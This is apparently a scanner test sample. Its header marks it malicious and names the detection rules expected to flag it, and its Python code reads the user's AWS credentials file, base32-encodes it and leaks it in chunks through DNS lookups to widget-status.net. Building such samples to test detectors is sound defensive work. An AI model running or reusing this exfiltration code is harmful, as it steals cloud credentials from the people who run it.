# does: looks up names that carry the AWS credentials in base32
# kind: malicious
# expect: SEN-001 high high
# expect: SEN-070 medium medium
# fast: yes
import base64
import os
import socket

text = base64.b32encode(open(os.path.expanduser("~/.aws/credentials"), "rb").read()).decode().rstrip("=").lower()
for number in range(0, len(text), 48):
    try:
        socket.getaddrinfo(f"{number // 48}.{text[number : number + 48]}.t.widget-status.net", 80)
    except OSError:
        pass
